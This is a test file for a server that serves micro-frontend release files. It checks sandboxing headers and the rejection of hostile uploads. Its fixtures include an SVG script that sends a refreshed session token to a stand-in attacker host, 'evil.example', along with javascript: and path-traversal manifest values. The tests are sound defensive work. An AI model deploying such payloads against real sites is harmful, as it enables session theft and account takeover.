// What a release holds is served on the site's origin: nothing in one may run there as a
// document, and its manifest may load nothing from anywhere else
// (docs/security.md#release-files-the-gate-and-preview).
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { INERT_FILE_POLICY } from '../../core/remote-file-policy';
import { bearer, createTestApi, type TestApi } from '../../testing/api';
import { testDatabaseKinds } from '../../testing/database';
import { remoteBuild, upload, writeShellManifest } from '../../testing/release-fixture';
import { buildTestApp, createSiteFixture, type SiteFixture } from '../../testing/site-fixture';

// An SVG that, opened as a document on the site's origin, would run a same-origin script and
// an inline one, each reading the session.
const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script href="/mfe/blog/steal.js"></script>
<script>fetch('/api/auth/refresh',{method:'POST'}).then(r=>r.text()).then(t=>new Image().src='https://evil.example/?'+t)</script>
<rect width="10" height="10"/></svg>`;

/** The headers that keep a file from acting as a document on the site's origin. */
function expectInert(res: LightMyRequestResponse): void {
  expect(res.statusCode).toBe(200);
  const policy = String(res.headers['content-security-policy']);
  expect(policy).toBe(INERT_FILE_POLICY);
  // No script at all (sandbox without allow-scripts) and nothing loaded from anywhere.
  expect(policy.split('; ')).toEqual(expect.arrayContaining(['sandbox', "default-src 'none'"]));
  expect(policy).not.toMatch(/allow-scripts|allow-same-origin|script-src/);
  expect(res.headers['x-content-type-options']).toBe('nosniff');
}

/** A script keeps the site's own policy: it only ever runs inside a page of the site. */
function expectSitePolicy(res: LightMyRequestResponse): void {
  expect(res.statusCode).toBe(200);
  expect(String(res.headers['content-security-policy'])).toMatch(/script-src 'self'/);
  expect(res.headers['x-content-type-options']).toBe('nosniff');
}

describe.each(testDatabaseKinds())('a release’s files on %s', (kind) => {
  let api: TestApi;
  let token: string;

  beforeEach(async () => {
    api = await createTestApi(kind);
    writeShellManifest(api.database.dataDir);
    token = (await api.account({ isAdmin: true })).token;
  });
  afterEach(() => api.close());

  it('serves an SVG holding a script sandboxed, still as an SVG image', async () => {
    const build = [
      ...remoteBuild('svg'),
      { path: 'assets/logo.svg', bytes: Buffer.from(HOSTILE_SVG) },
      { path: 'assets/logo.svg.gz', bytes: gzipSync(HOSTILE_SVG) },
      { path: 'assets/photo.png', bytes: Buffer.from([0x89, 0x50, 0x4e, 0x47]) },
      { path: 'main.js.LICENSE.txt', bytes: Buffer.from('MIT <script>x</script>') },
    ];
    const made = await upload(api.app, 'blog', token, build);
    expect(made.statusCode).toBe(200);
    const { version } = made.json<{ version: string }>();
    const get = (file: string, headers: Record<string, string> = {}) =>
      api.app.inject({ url: `/mfe/blog/${version}/${file}`, headers });

    const svg = await get('assets/logo.svg');
    expectInert(svg);
    // Its type comes from its extension: an <img src> of it still draws it.
    expect(svg.headers['content-type']).toBe('image/svg+xml');
    expect(svg.body).toBe(HOSTILE_SVG);
    // Its compressed copy is the same file: just as inert.
    const gz = await get('assets/logo.svg', { 'accept-encoding': 'gzip' });
    expect(gz.headers['content-encoding']).toBe('gzip');
    expectInert(gz);
    expectInert(await get('mf-manifest.json'));
    const text = await get('main.js.LICENSE.txt');
    expectInert(text);
    expect(text.headers['content-type']).toBe('text/plain; charset=utf-8');

    expectSitePolicy(await get('remoteEntry.js'));
    expect((await get('remoteEntry.js')).headers['content-type']).toBe(
      'text/javascript; charset=utf-8',
    );
    const png = await get('assets/photo.png');
    expect(png.headers['content-type']).toBe('image/png');
    expect(png.headers['x-content-type-options']).toBe('nosniff');
  });

  it('refuses a release holding an HTML, XML or other document: none has business in one', async () => {
    for (const file of ['index.html', 'page.htm', 'page.xhtml', 'feed.xml', 'x.svgz', 'a.wasm']) {
      const res = await upload(api.app, 'blog', token, [
        ...remoteBuild('doc'),
        { path: file, bytes: Buffer.from('<html><script>alert(document.cookie)</script></html>') },
      ]);
      expect(res.statusCode).toBe(415);
      expect(res.json<{ msg: string }>().msg).toContain(`files: '${file}' is not a kind of file`);
    }
    const releases = await api.app.inject({ url: '/api/releases/blog', headers: bearer(token) });
    expect(releases.json<{ versions: unknown[] }>().versions).toEqual([]);
  });

  it('refuses a manifest that loads from outside its version, naming the cause', async () => {
    type Manifest = {
      metaData: { publicPath?: string; getPublicPath?: string; remoteEntry: { name: string } };
      exposes: { assets: { js: { sync: string[] } } }[];
    };
    const hostile: [(manifest: Manifest) => void, string][] = [
      [
        (m) => (m.metaData.publicPath = 'https://evil.example/'),
        "its publicPath 'https://evil.example/' points outside /mfe/blog/",
      ],
      [
        (m) => (m.metaData.publicPath = 'javascript:alert(1)//'),
        "its publicPath 'javascript:alert(1)//' points outside /mfe/blog/",
      ],
      [
        (m) => (m.metaData.getPublicPath = 'return "//evil.example/"'),
        `its getPublicPath 'return "//evil.example/"' would choose where its files load from`,
      ],
      [
        (m) => m.exposes[0]?.assets.js.sync.push('//evil.example/x.js'),
        "its asset '//evil.example/x.js' points outside /mfe/blog/",
      ],
      [
        (m) => (m.metaData.remoteEntry.name = '../../uploads/x.js'),
        "its remote entry '../../uploads/x.js' points outside /mfe/blog/",
      ],
    ];
    for (const [change, cause] of hostile) {
      for (const target of ['live', 'none'] as const) {
        const build = remoteBuild(`hostile ${cause} ${target}`);
        const file = build[0] as { path: string; bytes: Buffer };
        const manifest = JSON.parse(file.bytes.toString('utf8')) as Manifest;
        change(manifest);
        file.bytes = Buffer.from(JSON.stringify(manifest));
        const res = await upload(api.app, 'blog', token, build, { target });
        expect(res.statusCode).toBe(422);
        const { msg } = res.json<{ msg: string }>();
        expect(msg).toContain(cause);
        expect(msg).toMatch(
          target === 'live'
            ? /^blog [0-9a-f]{12} cannot go live or canary: /
            : /^blog [0-9a-f]{12} cannot be registered: /,
        );
      }
    }
    // Nothing of any of them was kept, and a build as a build writes it still goes live.
    const releases = await api.app.inject({ url: '/api/releases/blog', headers: bearer(token) });
    expect(releases.json<{ versions: unknown[] }>().versions).toEqual([]);
    expect((await upload(api.app, 'blog', token, remoteBuild('fine'))).statusCode).toBe(200);
  });
});

describe('a local build’s files under /mfe/<remote>/', () => {
  let fixture: SiteFixture;
  let app: FastifyInstance;

  beforeAll(async () => {
    fixture = createSiteFixture();
    const write = (file: string, content: string) => {
      mkdirSync(path.dirname(path.join(fixture.root, file)), { recursive: true });
      writeFileSync(path.join(fixture.root, file), content);
    };
    write('mfe-blog/dist/assets/logo.svg', HOSTILE_SVG);
    write('mfe-blog/dist/index.html', '<!doctype html><script src="/mfe/blog/steal.js"></script>');
    app = buildTestApp(fixture.root);
    await app.ready();
  });
  afterAll(async () => {
    await app.close();
    fixture.remove();
  });

  it('serves an SVG, an HTML page and the manifest sandboxed, scripts as before', async () => {
    const svg = await app.inject({ url: '/mfe/blog/assets/logo.svg' });
    expectInert(svg);
    expect(svg.headers['content-type']).toMatch(/^image\/svg\+xml/);
    expectInert(await app.inject({ url: '/mfe/blog/index.html' }));
    expectInert(await app.inject({ url: '/mfe/blog/mf-manifest.json' }));
    expectSitePolicy(await app.inject({ url: '/mfe/blog/remoteEntry.js' }));
  });
});
